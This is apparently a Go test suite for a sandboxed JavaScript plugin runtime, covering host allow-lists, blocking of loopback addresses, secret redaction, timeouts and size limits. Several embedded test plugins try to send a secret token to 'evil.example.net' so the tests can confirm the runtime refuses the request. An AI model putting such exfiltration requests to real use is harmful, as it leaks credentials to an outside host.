package plugin

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/formaapp/forma/engine/clock"
	"github.com/formaapp/forma/engine/store"
	"github.com/formaapp/forma/engine/store/storetest"
	"github.com/formaapp/forma/schema"
)

// logBuffer captures the service's slog output (every level) so tests can
// grep it.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *logBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *logBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

type testEnv struct {
	s    *Service
	db   *store.DB
	logs *logBuffer
	apps map[string]bool // applied to the catalog
}

// newEnv opens the plugin service on db (a new SQLite one when nil) with
// unsigned installs allowed; its log goes to logs.
func newEnv(t testing.TB, db *store.DB, opts Options) *testEnv {
	t.Helper()
	if db == nil {
		db = storetest.SQLite(t)
	}
	logs := &logBuffer{}
	log := slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	opts.SecretKey, opts.AllowUnsigned = testSecretKey, true
	s, err := New(context.Background(), db, store.NewCatalog(db), nil, nil, opts, log)
	if err != nil {
		t.Fatal(err)
	}
	return &testEnv{s: s, db: db, logs: logs, apps: map[string]bool{}}
}

// install installs (or upgrades) a plugin from its manifest and main
// script, as an unsigned folder.
func (e *testEnv) install(t testing.TB, manifest, js string) {
	t.Helper()
	pkg, err := ReadFolder(fstest.MapFS{"plugin.json": {Data: []byte(manifest)}, "index.js": {Data: []byte(js)}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.s.Install(context.Background(), pkg, "u1", true); err != nil {
		t.Fatal(err)
	}
}

// configure enables plugin in app (applied first when new) with settings
// and secrets.
func (e *testEnv) configure(t testing.TB, app, plugin string, settings map[string]any, secrets map[string]string, allowPrivate bool) {
	t.Helper()
	ctx := context.Background()
	if !e.apps[app] {
		doc, probs := schema.Parse([]byte(`{"name": "` + app + `", "entities": [{"id": "e1", "name": "lead", "fields": [{"id": "f1", "name": "title", "type": "text"}]}]}`))
		if len(probs) > 0 {
			t.Fatal(probs)
		}
		if _, err := e.db.Apply(ctx, doc, store.ApplyOptions{}); err != nil {
			t.Fatal(err)
		}
		e.apps[app] = true
	}
	raw, _ := json.Marshal(settings)
	in := ConfigInput{Enabled: new(bool), Settings: raw, Secrets: map[string]*string{}, AllowPrivate: &allowPrivate}
	*in.Enabled = true
	for k, v := range secrets {
		in.Secrets[k] = &v
	}
	if _, err := e.s.Configure(ctx, app, plugin, in, "u1", true); err != nil {
		t.Fatal(err)
	}
}

// manifest writes a test plugin's plugin.json.
func manifest(name string, hosts []string, limits string, actions string) string {
	extra := ""
	if len(hosts) > 0 {
		h, _ := json.Marshal(hosts)
		extra += `, "hosts": ` + string(h)
	}
	if limits != "" {
		extra += `, "limits": ` + limits
	}
	return fmt.Sprintf(`{"name": %q, "version": "1.0.0", "author": "t", "description": "d"%s,
		"settings": {"type": "object", "properties": {"channel": {"type": "string"}}},
		"secrets": {"type": "object", "properties": {"token": {"type": "string"}}},
		"actions": %s, "triggers": [{"name": "submission", "output": {"type": "object", "properties": {"email": {"type": "string"}}, "required": ["email"]}}]}`,
		name, extra, actions)
}

const plainAction = `[{"name": "send", "input": {"type": "object", "properties": {"text": {"type": "string", "minLength": 1}, "n": {"type": "integer"}}, "required": ["text"], "additionalProperties": false},
	"output": {"type": "object", "properties": {"id": {"type": "string"}}}}]`

// redirect sends every request to srv, whatever its URL's host: the
// transport tests point declared hosts at a local server with.
type redirect struct{ srv *httptest.Server }

func (r redirect) RoundTrip(req *http.Request) (*http.Response, error) {
	u, _ := url.Parse(r.srv.URL)
	req = req.Clone(req.Context())
	req.URL.Scheme, req.URL.Host = u.Scheme, u.Host
	return http.DefaultTransport.RoundTrip(req)
}

func asError(t testing.TB, err error) *Error {
	t.Helper()
	var pe *Error
	if !errors.As(err, &pe) {
		t.Fatalf("error %v (%T) is not a *plugin.Error", err, err)
	}
	return pe
}

func lastCall(t testing.TB, s *Service, app, plugin string) CallInfo {
	t.Helper()
	calls, err := s.Calls(context.Background(), app, plugin, 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(calls) != 1 {
		t.Fatalf("calls: %v", calls)
	}
	return calls[0]
}

func TestCallOK(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		var got []byte
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			got, _ = io.ReadAll(r.Body)
			if r.Header.Get("Authorization") != "Bearer tok-1" || r.URL.Path != "/v1/send" || r.Host != "api.example.com" {
				w.WriteHeader(400)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"ok": true, "id": 7}`)
		}))
		defer srv.Close()
		e := newEnv(t, db, Options{Transport: redirect{srv}})
		e.install(t, manifest("demo", []string{"api.example.com"}, "", plainAction), `
function send(input) {
  var r = http.request({method: "POST", url: "https://api.example.com/v1/send", headers: {Authorization: "Bearer " + secrets.get("token")},
    json: {text: input.text, channel: settings.channel, app: ctx.app, key: ctx.key, now: ctx.now, plugin: plugin.name + "@" + plugin.version}});
  log.info("answered", r.status);
  console.log("console too");
  return {id: String(r.json.id), n: input.n};
}`)
		e.configure(t, "sales", "demo", map[string]any{"channel": "leads"}, map[string]string{"token": "tok-1"}, false)
		out, err := e.s.Call(context.Background(), "sales", "demo", "send", map[string]any{"text": "hi", "n": 3}, CallMeta{Kind: "action", Automation: "notify", Key: "k1"})
		if err != nil {
			t.Fatal(err)
		}
		if out["id"] != "7" || out["n"] != int64(3) {
			t.Errorf("output %v", out)
		}
		var sent map[string]any
		json.Unmarshal(got, &sent)
		if sent["text"] != "hi" || sent["channel"] != "leads" || sent["app"] != "sales" || sent["key"] != "k1" || sent["plugin"] != "demo@1.0.0" || sent["now"] == "" {
			t.Errorf("sent %s", got)
		}
		c := lastCall(t, e.s, "sales", "demo")
		if c.Status != "ok" || c.Kind != "action" || c.Name != "send" || c.Automation != "notify" || c.Requests != 1 ||
			strings.Join(c.Logs, "|") != "info: answered 200|log: console too" {
			t.Errorf("call %+v", c)
		}
	})
}

func TestUndeclaredHostRefusedAndLogged(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		hits := 0
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits++ }))
		defer srv.Close()
		e := newEnv(t, db, Options{Transport: redirect{srv}})
		e.install(t, manifest("demo", []string{"api.example.com", "*.example.org"}, "", plainAction), `
function send(input) {
  if (input.text === "caught") {
    try { http.request({url: "https://evil.example.net/steal"}) } catch (e) { log.warn("caught: " + e.message) }
    return {};
  }
  if (input.text === "apex") { http.request({url: "https://example.org/"}) }
  if (input.text === "port") { http.request({url: "https://api.example.com:8443/"}) }
  if (input.text === "plain") { http.request({url: "http://api.example.com/"}) }
  if (input.text === "literal") { http.request({url: "https://127.0.0.1/"}) }
  http.request({url: "https://evil.example.net/steal?x=1"});
}`)
		e.configure(t, "sales", "demo", nil, nil, false)
		ctx := context.Background()
		_, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "go"}, CallMeta{})
		pe := asError(t, err)
		if pe.Kind != KindRefused || pe.Retry || !strings.Contains(pe.Message, "host evil.example.net is not declared by plugin demo") {
			t.Fatalf("error %+v", pe)
		}
		c := lastCall(t, e.s, "sales", "demo")
		if c.Status != "refused" || !strings.Contains(c.Error, "evil.example.net") || len(c.Logs) != 1 || !strings.Contains(c.Logs[0], "refused: host evil.example.net is not declared") {
			t.Errorf("call log %+v", c)
		}
		if l := e.logs.String(); !strings.Contains(l, "level=WARN") || !strings.Contains(l, "request refused") || !strings.Contains(l, "host=evil.example.net") || strings.Contains(l, "x=1") {
			t.Errorf("slog: %s", l)
		}
		// Caught by the script: the call succeeds, the attempt is still logged.
		if _, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "caught"}, CallMeta{}); err != nil {
			t.Fatal(err)
		}
		if c := lastCall(t, e.s, "sales", "demo"); c.Status != "ok" || len(c.Logs) != 2 || !strings.HasPrefix(c.Logs[0], "refused: ") {
			t.Errorf("caught call log %+v", c)
		}
		// A wildcard does not cover its apex, a port must be declared, a
		// literal loopback is refused, and https is required.
		for _, text := range []string{"apex", "port", "literal"} {
			_, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": text}, CallMeta{})
			if pe := asError(t, err); pe.Kind != KindRefused {
				t.Errorf("%s: %+v", text, pe)
			}
		}
		if hits != 0 {
			t.Errorf("the server was reached %d times", hits)
		}
	})
}

func TestHTTPSRequired(t *testing.T) {
	e := newEnv(t, nil, Options{Resolve: func(ctx context.Context, host string) ([]string, error) { return []string{"93.184.216.34"}, nil }})
	e.install(t, manifest("demo", []string{"api.example.com"}, "", plainAction), `function send() { http.request({url: "http://api.example.com/"}) }`)
	e.configure(t, "sales", "demo", nil, nil, false)
	_, err := e.s.Call(context.Background(), "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindRefused || !strings.Contains(pe.Message, "only https") {
		t.Errorf("%+v", pe)
	}
}

func TestDeclaredHostResolvingToLoopbackRefused(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		hits := 0
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			hits++
			io.WriteString(w, "inside")
		}))
		defer srv.Close()
		_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
		resolve := func(ctx context.Context, host string) ([]string, error) { return []string{"127.0.0.1"}, nil }
		e := newEnv(t, db, Options{Resolve: resolve})
		e.install(t, manifest("demo", []string{"api.example.com", "api.example.com:" + port}, "", plainAction), `
function send(input) { return {id: http.request({url: input.text}).body} }`)
		e.configure(t, "sales", "demo", nil, nil, false)
		ctx := context.Background()
		for _, u := range []string{"https://api.example.com/", "https://api.example.com:" + port + "/"} {
			_, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": u}, CallMeta{})
			pe := asError(t, err)
			if pe.Kind != KindRefused || pe.Retry || !strings.Contains(pe.Message, "not public") {
				t.Errorf("%s: %+v", u, pe)
			}
		}
		if c := lastCall(t, e.s, "sales", "demo"); c.Status != "refused" || len(c.Logs) != 1 {
			t.Errorf("call %+v", c)
		}
		if !strings.Contains(e.logs.String(), "request refused") {
			t.Errorf("no warning: %s", e.logs.String())
		}
		// An app an admin allowed to reach private addresses gets through
		// (over http, which only such an app may use).
		e.configure(t, "sales", "demo", nil, nil, true)
		out, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "http://api.example.com:" + port + "/"}, CallMeta{})
		if err != nil || out["id"] != "inside" || hits != 1 {
			t.Errorf("allowed: %v %v (hits %d)", out, err, hits)
		}
	})
}

func TestSecretNeverLeaks(t *testing.T) {
	const secret = "s3cr3t/VALUE+42"
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			// A remote that echoes what it got, key included.
			w.WriteHeader(502)
			io.WriteString(w, "bad gateway for key "+r.URL.Query().Get("key"))
		}))
		defer srv.Close()
		e := newEnv(t, db, Options{Transport: redirect{srv}})
		e.install(t, manifest("demo", []string{"api.example.com"}, "", `[{"name": "send", "input": {"type": "object", "properties": {"mode": {"enum": ["throw", "log", "remote", "refused", "output", "nested", "input"]}}}}]`), `
function send(input) {
  var s = secrets.get("token");
  switch (input.mode) {
  case "throw": throw new Error("failed with " + s);
  case "log": log.info("the token is " + s); console.log(s); log.error({token: s}); return {};
  case "remote":
    var r = http.request({method: "POST", url: "https://api.example.com/send?key=" + encodeURIComponent(s), headers: {"X-Token": s}});
    throw new Error("remote said: " + r.body);
  case "refused": http.request({url: "https://evil.example.net/" + encodeURIComponent(s) + "?key=" + encodeURIComponent(s)});
  case "output": return {echo: s, list: [s, "x" + s]};
  case "nested": return {deep: {v: "token=" + encodeURIComponent(s)}};
  }
  return {};
}`)
		e.configure(t, "sales", "demo", nil, map[string]string{"token": secret}, false)
		ctx := context.Background()
		var seen []string
		for _, mode := range []string{"throw", "log", "remote", "refused", "output", "nested"} {
			out, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"mode": mode}, CallMeta{})
			b, _ := json.Marshal(out)
			seen = append(seen, string(b))
			if err != nil {
				seen = append(seen, err.Error())
				if pe := asError(t, err); true {
					b, _ := json.Marshal(pe)
					seen = append(seen, string(b))
				}
			}
		}
		// The input is checked too: a value the schema refuses is quoted in
		// the details.
		_, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"mode": secret}, CallMeta{})
		pe := asError(t, err)
		if pe.Kind != KindInput {
			t.Errorf("input: %+v", pe)
		}
		b, _ := json.Marshal(pe)
		seen = append(seen, string(b), err.Error())
		calls, err := e.s.Calls(ctx, "sales", "demo", 50)
		if err != nil || len(calls) != 7 {
			t.Fatalf("calls %d %v", len(calls), err)
		}
		cb, _ := json.Marshal(calls)
		seen = append(seen, string(cb), e.logs.String())
		var raw []string
		db.Gorm.Table("_forma_plugin_calls").Pluck("error || ' ' || logs", &raw)
		seen = append(seen, raw...)
		all := strings.Join(seen, "\n")
		for _, form := range []string{secret, url.QueryEscape(secret), url.PathEscape(secret)} {
			if strings.Contains(all, form) {
				t.Errorf("the secret (as %q) leaked:\n%s", form, all)
			}
		}
		if !strings.Contains(all, "failed with ***") || !strings.Contains(all, "the token is ***") || !strings.Contains(string(cb), `"info: the token is ***"`) ||
			!strings.Contains(all, "host evil.example.net is not declared") {
			t.Errorf("redaction missing:\n%s", all)
		}
		remote := calls[len(calls)-3] // oldest first from the end: throw, log, remote
		if remote.Status != "error" || !strings.Contains(remote.Error, "bad gateway for key ***") {
			t.Errorf("remote call %+v", remote)
		}
	})
}

func TestRemoteErrorKinds(t *testing.T) {
	status := 503
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(status) }))
	defer srv.Close()
	e := newEnv(t, nil, Options{Transport: redirect{srv}})
	e.install(t, manifest("demo", []string{"api.example.com"}, "", plainAction), `
function send(input) {
  var r = http.request({url: "https://api.example.com/"});
  if (r.status !== 200) throw new Error("remote answered " + r.status);
  return {};
}`)
	e.configure(t, "sales", "demo", nil, nil, false)
	for st, retry := range map[int]bool{503: true, 429: true, 400: false, 404: false} {
		status = st
		_, err := e.s.Call(context.Background(), "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{})
		if pe := asError(t, err); pe.Kind != KindRemote || pe.Retry != retry {
			t.Errorf("%d: %+v", st, pe)
		}
	}
	// A network failure retries too.
	srv.Close()
	_, err := e.s.Call(context.Background(), "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindRemote || !pe.Retry || strings.Contains(pe.Message, "127.0.0.1:") && strings.Contains(pe.Message, "http://") {
		t.Errorf("network: %+v", pe)
	}
}

func TestHangingRemoteCut(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		release := make(chan struct{})
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			select {
			case <-release:
			case <-r.Context().Done():
			}
		}))
		defer srv.Close()
		defer close(release)
		e := newEnv(t, db, Options{Transport: redirect{srv}})
		e.install(t, manifest("demo", []string{"api.example.com"}, `{"timeoutMs": 300}`, plainAction), `
function send(input) {
  if (input.text === "short") {
    try { http.request({url: "https://api.example.com/", timeoutMs: 50}) } catch (e) { return {id: e.message} }
  }
  http.request({url: "https://api.example.com/"});
  return {};
}`)
		e.configure(t, "sales", "demo", nil, nil, false)
		if _, err := e.s.plugin(context.Background(), "demo"); err != nil { // compiled before the clock starts
			t.Fatal(err)
		}
		start := time.Now()
		_, err := e.s.Call(context.Background(), "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{})
		took := time.Since(start)
		pe := asError(t, err)
		if pe.Kind != KindTimeout || !pe.Retry {
			t.Errorf("error %+v", pe)
		}
		if took < 250*time.Millisecond || took > 5*time.Second {
			t.Errorf("cut after %v, limit 300ms", took)
		}
		if c := lastCall(t, e.s, "sales", "demo"); c.Status != "timeout" || c.Requests != 1 {
			t.Errorf("call %+v", c)
		}
		// A request's own timeoutMs cuts it sooner; the script may go on.
		out, err := e.s.Call(context.Background(), "sales", "demo", "send", map[string]any{"text": "short"}, CallMeta{})
		if err != nil || !strings.Contains(fmt.Sprint(out["id"]), "timed out") {
			t.Errorf("short: %v %v", out, err)
		}
	})
}

func TestLoopingScriptCut(t *testing.T) {
	e := newEnv(t, nil, Options{})
	e.install(t, manifest("demo", nil, `{"timeoutMs": 200}`, plainAction), `function send() { for (;;) {} }`)
	e.configure(t, "sales", "demo", nil, nil, false)
	if _, err := e.s.plugin(context.Background(), "demo"); err != nil { // compiled before the clock starts
		t.Fatal(err)
	}
	start := time.Now()
	_, err := e.s.Call(context.Background(), "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindTimeout || !pe.Retry || time.Since(start) > 5*time.Second {
		t.Errorf("%+v after %v", pe, time.Since(start))
	}
	// The manifest may not loosen the server's maxima (ParseManifest
	// refuses that too; the runtime does not rely on it).
	l := limitsOf(&schema.Manifest{Limits: &schema.PluginLimits{TimeoutMs: 600000, MaxRequests: 1000, MaxResponseKB: 100000}})
	if l.timeout != MaxTimeout || l.requests != MaxRequests || l.responseBytes != MaxResponseKB<<10 {
		t.Errorf("limits %+v", l)
	}
}

func TestRequestCountAndSizeLimits(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			n := 100
			if r.URL.Path == "/big" {
				n = 2048
			}
			if r.URL.Path == "/chunked" {
				w.(http.Flusher).Flush() // no Content-Length: the limit is met while reading
				n = 4096
			}
			io.WriteString(w, strings.Repeat("x", n))
		}))
		defer srv.Close()
		e := newEnv(t, db, Options{Transport: redirect{srv}})
		e.install(t, manifest("demo", []string{"api.example.com"}, `{"maxRequests": 3, "maxResponseKB": 1}`, plainAction), `
function send(input) {
  if (input.text === "many") { for (var i = 0; i < 5; i++) http.request({url: "https://api.example.com/small"}) }
  if (input.text === "three") { for (var i = 0; i < 3; i++) http.request({url: "https://api.example.com/small"}); return {} }
  http.request({url: "https://api.example.com/" + input.text});
  return {};
}`)
		e.configure(t, "sales", "demo", nil, nil, false)
		ctx := context.Background()
		if _, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "three"}, CallMeta{}); err != nil {
			t.Fatal(err)
		}
		_, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "many"}, CallMeta{})
		if pe := asError(t, err); pe.Kind != KindRefused || !strings.Contains(pe.Message, "at most 3 requests") {
			t.Errorf("many: %+v", pe)
		}
		if c := lastCall(t, e.s, "sales", "demo"); c.Requests != 4 || c.Status != "refused" {
			t.Errorf("call %+v", c)
		}
		for _, p := range []string{"big", "chunked"} {
			_, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": p}, CallMeta{})
			if pe := asError(t, err); pe.Kind != KindRefused || !strings.Contains(pe.Message, "larger than 1 KB") {
				t.Errorf("%s: %+v", p, pe)
			}
		}
	})
}

func TestSchemaViolations(t *testing.T) {
	e := newEnv(t, nil, Options{})
	e.install(t, manifest("demo", nil, "", plainAction), `
function send(input) {
  if (input.text === "num") return {id: 5};
  if (input.text === "list") return [1];
  if (input.text === "fn") return {id: function() {}};
  return {id: "ok"};
}
function submission(req) {
  if (req.body === "many") return [{email: "a@x"}, null, {email: "b@x"}];
  if (req.body === "none") return null;
  if (req.body === "bad") return [{email: "a@x"}, {name: "no email"}, 3];
  return {email: req.form.email};
}`)
	e.configure(t, "sales", "demo", nil, nil, false)
	ctx := context.Background()
	for name, tc := range map[string]struct {
		input map[string]any
		paths []string
	}{
		"missing":   {map[string]any{}, []string{""}},
		"wrongType": {map[string]any{"text": 5, "n": "x"}, []string{"/n", "/text"}},
		"unknown":   {map[string]any{"text": "a", "owner": "u1"}, []string{"/owner"}},
		"empty":     {map[string]any{"text": ""}, []string{"/text"}},
		"notJSON":   {map[string]any{"text": "a", "n": make(chan int)}, nil},
	} {
		_, err := e.s.Call(ctx, "sales", "demo", "send", tc.input, CallMeta{})
		pe := asError(t, err)
		if pe.Kind != KindInput || pe.Retry {
			t.Errorf("%s: %+v", name, pe)
			continue
		}
		var paths []string
		for _, d := range pe.Details {
			paths = append(paths, d.Path)
		}
		if strings.Join(paths, ",") != strings.Join(tc.paths, ",") {
			t.Errorf("%s: details %+v", name, pe.Details)
		}
	}
	for _, text := range []string{"num", "list", "fn"} {
		_, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": text}, CallMeta{})
		if pe := asError(t, err); pe.Kind != KindOutput || (text == "num" && (len(pe.Details) != 1 || pe.Details[0].Path != "/id")) {
			t.Errorf("%s: %+v", text, pe)
		}
	}
	// Triggers: an object, a list (nulls dropped), null; bad items with pointers.
	items, err := e.s.Receive(ctx, "sales", "demo", "submission", "website", Inbound{Method: "POST", Form: map[string]string{"email": "c@x"}})
	if err != nil || len(items) != 1 || items[0]["email"] != "c@x" {
		t.Errorf("object: %v %v", items, err)
	}
	if items, err := e.s.Receive(ctx, "sales", "demo", "submission", "website", Inbound{Body: "many"}); err != nil || len(items) != 2 {
		t.Errorf("many: %v %v", items, err)
	}
	if items, err := e.s.Receive(ctx, "sales", "demo", "submission", "website", Inbound{Body: "none"}); err != nil || len(items) != 0 {
		t.Errorf("none: %v %v", items, err)
	}
	_, err = e.s.Receive(ctx, "sales", "demo", "submission", "website", Inbound{Body: "bad"})
	if pe := asError(t, err); pe.Kind != KindOutput || len(pe.Details) != 2 || pe.Details[0].Path != "/1" || pe.Details[1].Path != "/2" {
		t.Errorf("bad items: %+v", pe)
	}
	if c := lastCall(t, e.s, "sales", "demo"); c.Kind != "trigger" || c.Connector != "website" || c.Status != "error" {
		t.Errorf("trigger call %+v", c)
	}
}

func TestNotFoundDisabledAndUpgrade(t *testing.T) {
	e := newEnv(t, nil, Options{})
	ctx := context.Background()
	_, err := e.s.Call(ctx, "sales", "nope", "send", nil, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindNotFound {
		t.Errorf("absent: %+v", pe)
	}
	e.install(t, manifest("demo", nil, "", plainAction), `function send() { return {id: "v1"} }`)
	_, err = e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindDisabled || pe.Retry {
		t.Errorf("not configured: %+v", pe)
	}
	e.configure(t, "sales", "demo", nil, nil, false)
	_, err = e.s.Call(ctx, "sales", "demo", "other", nil, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindNotFound {
		t.Errorf("no action: %+v", pe)
	}
	var first *compiled
	for i := 0; i < 3; i++ {
		out, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{})
		if err != nil || out["id"] != "v1" {
			t.Fatalf("v1: %v %v", out, err)
		}
		c, _ := e.s.plugin(ctx, "demo")
		if first == nil {
			first = c
		} else if c != first {
			t.Error("one version compiled twice")
		}
	}
	// An upgrade (made by another server: only the row changed) is used
	// by the next call.
	e.install(t, manifest("demo", nil, "", plainAction), `function send() { return {id: "v2"} }`)
	if out, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": "x"}, CallMeta{}); err != nil || out["id"] != "v2" {
		t.Errorf("v2: %v %v", out, err)
	}
	// A script that does not compile is a script error, not a crash.
	e.install(t, manifest("broken", nil, "", plainAction), `function send( {`)
	e.configure(t, "sales", "broken", nil, nil, false)
	_, err = e.s.Call(ctx, "sales", "broken", "send", map[string]any{"text": "x"}, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindScript || pe.Retry {
		t.Errorf("broken: %+v", pe)
	}
	// A missing secret is a configuration problem.
	e.install(t, manifest("needs", nil, "", plainAction), `function send() { return {id: secrets.get("token")} }`)
	e.configure(t, "sales", "needs", nil, nil, false)
	_, err = e.s.Call(ctx, "sales", "needs", "send", map[string]any{"text": "x"}, CallMeta{})
	if pe := asError(t, err); pe.Kind != KindConfig || pe.Retry {
		t.Errorf("no secret: %+v", pe)
	}
}

func TestCryptoNatives(t *testing.T) {
	db := storetest.SQLite(t)
	db.Clock = clock.NewTest(time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC))
	e := newEnv(t, db, Options{})
	e.install(t, manifest("demo", nil, "", `[{"name": "send"}]`), `
function send() {
  var ts = String(ctx.nowMs), secret = "SEC";
  return {
    sign: crypto.hmacSHA256(secret, ts + "\n" + secret, "base64"),
    hex: crypto.hmacSHA256("k", "m"),
    sha: crypto.sha256("abc", "hex"),
    b64: crypto.base64("hi"),
    id: crypto.randomId(),
    ts: ts,
    now: ctx.now
  };
}`)
	e.configure(t, "sales", "demo", nil, nil, false)
	out, err := e.s.Call(context.Background(), "sales", "demo", "send", nil, CallMeta{})
	if err != nil {
		t.Fatal(err)
	}
	mac := func(key, msg string) []byte {
		h := hmac.New(sha256.New, []byte(key))
		h.Write([]byte(msg))
		return h.Sum(nil)
	}
	ts := fmt.Sprint(db.Clock.Now().UnixMilli())
	want := map[string]any{
		"sign": base64.StdEncoding.EncodeToString(mac("SEC", ts+"\nSEC")),
		"hex":  hex.EncodeToString(mac("k", "m")),
		"sha":  "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
		"b64":  "aGk=",
		"ts":   ts,
		"now":  "2026-03-04T05:06:07Z",
	}
	for k, v := range want {
		if out[k] != v {
			t.Errorf("%s = %v, want %v", k, out[k], v)
		}
	}
	if id, _ := out["id"].(string); len(id) != 32 {
		t.Errorf("randomId %q", id)
	}
}

func TestCallsPruned(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db, Options{})
		e.install(t, manifest("demo", nil, "", plainAction), `function send(i) { return {id: i.text} }`)
		e.configure(t, "sales", "demo", nil, nil, false)
		e.configure(t, "other", "demo", nil, nil, false)
		ctx := context.Background()
		if _, err := e.s.Call(ctx, "other", "demo", "send", map[string]any{"text": "o"}, CallMeta{}); err != nil {
			t.Fatal(err)
		}
		for i := 0; i < KeepCalls+5; i++ {
			if _, err := e.s.Call(ctx, "sales", "demo", "send", map[string]any{"text": fmt.Sprint(i)}, CallMeta{}); err != nil {
				t.Fatal(err)
			}
		}
		calls, err := e.s.Calls(ctx, "sales", "demo", 0) // writes what is pending first
		if err != nil || len(calls) != 50 || calls[0].Name != "send" {
			t.Fatalf("calls %d %v", len(calls), err)
		}
		var n int64
		db.Gorm.Table("_forma_plugin_calls").Where("app = ?", "sales").Count(&n)
		if n != KeepCalls {
			t.Errorf("kept %d calls, want %d", n, KeepCalls)
		}
		if all, _ := e.s.Calls(ctx, "sales", "demo", 1000); len(all) != KeepCalls {
			t.Errorf("limit: %d", len(all))
		}
		if other, _ := e.s.Calls(ctx, "other", "demo", 10); len(other) != 1 {
			t.Errorf("the other app's log was pruned: %v", other)
		}
	})
}

// BenchmarkCall measures a plugin action call: the installed version's
// check, the input and output schemas, the sandbox, the call log's write
// (SQLite). no_http makes no request; one_http makes one to a local fake.
func BenchmarkCall(b *testing.B) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"errcode": 0, "errmsg": "ok"}`)
	}))
	defer srv.Close()
	e := newEnv(b, nil, Options{Transport: redirect{srv}})
	e.install(b, manifest("demo", []string{"api.example.com"}, "", plainAction), `
function send(input) {
  if (input.n === 1) {
    var r = http.request({method: "POST", url: "https://api.example.com/send?key=" + secrets.get("token"), json: {msgtype: "text", text: {content: input.text}}});
    if (r.json.errcode !== 0) throw new Error(r.json.errmsg);
  }
  return {id: "m-" + input.text.length};
}`)
	e.configure(b, "sales", "demo", nil, map[string]string{"token": "tok"}, false)
	ctx := context.Background()
	for _, bc := range []struct {
		name string
		n    int
	}{{"no_http", 0}, {"one_http", 1}} {
		b.Run(bc.name, func(b *testing.B) {
			in := map[string]any{"text": "New lead: Acme", "n": bc.n}
			if _, err := e.s.Call(ctx, "sales", "demo", "send", in, CallMeta{}); err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := e.s.Call(ctx, "sales", "demo", "send", in, CallMeta{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
